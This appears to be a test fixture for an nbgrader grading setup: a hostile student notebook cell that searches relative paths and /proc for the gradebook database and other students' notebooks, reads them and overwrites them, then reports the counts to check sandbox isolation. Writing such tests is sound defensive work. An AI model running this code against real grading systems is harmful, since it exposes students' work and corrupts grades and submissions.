# A hostile student cell (tests/test_hostile.py puts it after the last solution cell).
# nbgrader runs a kernel in autograded/<student>/<assignment>/, so relative paths reach the
# gradebook and the other students' notebooks. The grader must run it somewhere harmless.
# COURSE_ROOT (set by the test when kernels can be isolated) is the attack by absolute path.
import glob
import os


def attack(targets):
    found, read, written = [], [], []
    here = os.getcwd()
    for path in sorted(set(targets)):
        full = os.path.abspath(path)
        if not os.path.isfile(path) or full.startswith(here):
            continue
        # only what belongs to a course (never damage an unrelated file when the sandbox fails)
        if not (full.endswith("gradebook.db") or any(f"/{d}/" in full for d in ("submitted", "autograded", "feedback"))):
            continue
        found.append(path)
        try:
            with open(path, "rb") as f:
                read.append(f.read(200))                     # "read their answers"
        except OSError:
            pass
        try:
            with open(path, "r+b") as f:                     # overwrite, keep the file
                f.write(b'{"hacked": true}')
            written.append(path)
        except OSError:
            pass
    return found, read, written


relative = [
    "../../../.nbgrader/gradebook.db", "../../../gradebook.db", "../../.nbgrader/gradebook.db",
    *glob.glob("../../*/*/*.ipynb"),                         # autograded/<other>/<assignment>/
    *glob.glob("../../../submitted/*/*/*.ipynb"),             # submitted/<other>/<assignment>/
    *glob.glob("../../../autograded/*/*/*.ipynb"),
]
for level in range(1, 8):                                    # walk up, look for the course
    up = os.path.normpath(os.path.join(os.getcwd(), *[".."] * level))
    for name in (".nbgrader", "submitted", "autograded", "feedback"):
        if os.path.isdir(os.path.join(up, name)):
            relative += glob.glob(os.path.join(up, name, "**", "*.*"), recursive=True)
found, read, written = attack(relative)
print(f"TAMPER relative found={len(found)} read={len(read)} written={len(written)}")
print(f"COURSE_SMOKE={os.environ.get('COURSE_SMOKE')} cwd={os.getcwd()}")
print("\n".join(found[:20]))

absolute = []
if globals().get("COURSE_ROOT"):
    root = COURSE_ROOT  # noqa: F821
    absolute += [os.path.join(root, ".nbgrader", "gradebook.db")]
    absolute += glob.glob(os.path.join(root, "submitted", "*", "*", "*.ipynb"))
    absolute += glob.glob(os.path.join(root, "autograded", "*", "*", "*.ipynb"))
    for pid in os.listdir("/proc"):                          # other processes' folders
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        absolute += glob.glob(os.path.join(cwd, "*.ipynb")) + glob.glob(os.path.join(cwd, "*", "*.ipynb"))
    found, read, written = attack(absolute)
    print(f"TAMPER absolute found={len(found)} read={len(read)} written={len(written)}")
    print("\n".join(found[:20]))
